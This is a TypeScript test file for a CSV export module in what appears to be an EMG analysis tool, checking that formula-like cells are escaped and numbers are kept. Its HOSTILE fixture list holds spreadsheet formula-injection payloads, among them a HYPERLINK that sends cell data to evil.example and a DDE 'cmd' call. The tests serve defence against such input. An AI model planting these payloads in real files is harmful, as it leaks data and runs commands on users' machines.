import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { eventsToCsv } from '../../core/analysis/events-csv';
import { csvCell, csvRow, csvTable } from '../../core/csv/write';
import { summaryCsv, summaryRows } from '../../core/library/summary-csv';
import { makeAnalysis } from '../guidance/make-analysis';

/** What a spreadsheet would run as a formula: a cell starting with one of these. */
const FORMULA = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?$/;

function parse(csv: string): string[][] {
  const out = Papa.parse<string[]>(csv.replace(/\n$/, ''), { header: false, delimiter: ',', newline: '\n' });
  expect(out.errors).toEqual([]);
  return out.data;
}

/** Every cell of a parsed table that a spreadsheet would evaluate. */
function formulaCells(rows: string[][]): string[] {
  return rows.flat().filter((c) => FORMULA.test(c) && !PLAIN_NUMBER.test(c));
}

const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '+1+1', '\t=1+1', '\r=1+1', '=1,2\n3'];

describe('the CSV writer', () => {
  // Two columns at least: a one-column row holding '' is an empty line, which CSV readers skip.
  it('quotes per RFC 4180 and reads back cell for cell', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const width = rows[0].length;
        const table = rows.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? 'x'));
        const back = parse(csvTable(table[0], table.slice(1)));
        expect(back).toHaveLength(table.length);
        back.forEach((row, i) => row.forEach((cell, j) => expect(cell).toBe(FORMULA.test(table[i][j]) && !PLAIN_NUMBER.test(table[i][j]) ? `'${table[i][j]}` : table[i][j])));
      }),
    );
  });

  it('neutralises every cell that starts like a formula, and leaves numbers as numbers', () => {
    for (const h of HOSTILE) expect(parse(csvRow([h]))[0][0]).toBe(`'${h}`);
    expect(csvRow([-12.5, '-12.5', '+3e-4', 0, '.5', '-0.0001'])).toBe('-12.5,-12.5,+3e-4,0,.5,-0.0001');
    expect(csvRow([Number.NaN, Number.POSITIVE_INFINITY, null, undefined, ''])).toBe(',,,,');
    expect(csvCell('a "quoted" word, here')).toBe('"a ""quoted"" word, here"');
  });
});

describe('exports use it', () => {
  it('events CSV: site names from a sidecar cannot run as formulas; times and amplitudes stay numbers', () => {
    const analysis = makeAnalysis(HOSTILE.map((site, i) => ({ id: `emg${i + 1}`, site, restS: 60, twitches: 2 })));
    const rows = parse(eventsToCsv(analysis, { startTime: null, fingerprint: 'f' }));
    expect(rows[0]).toEqual(['channel', 'site', 'type', 'review', 'time', 'startS', 'durationS', 'peakS', 'endS', 'amplitude', 'unit', 'snr', 'multiplet', 'reason', 'recording']);
    expect(formulaCells(rows)).toEqual([]);
    expect(rows.slice(1).map((r) => r[1]).sort()).toEqual(HOSTILE.flatMap((h) => [`'${h}`, `'${h}`]).sort());
    for (const r of rows.slice(1)) for (const c of [5, 6, 7, 8, 9, 11]) expect(Number.isFinite(Number(r[c]))).toBe(true);
  });

  it('batch summary CSV: file and site columns cannot run as formulas', () => {
    const rows = HOSTILE.flatMap((h) => summaryRows(`${h}.csv`, { startTime: null, sites: [{ site: h, restS: 60, twitchCount: 3, twitchesPerMinute: 3, sustainedCount: 0, analysedS: 60 }] }));
    const parsed = parse(summaryCsv(rows));
    expect(formulaCells(parsed)).toEqual([]);
    expect(parsed.slice(1).map((r) => [r[0], r[2]])).toEqual(HOSTILE.map((h) => [`'${h}.csv`, `'${h}`]));
  });
});
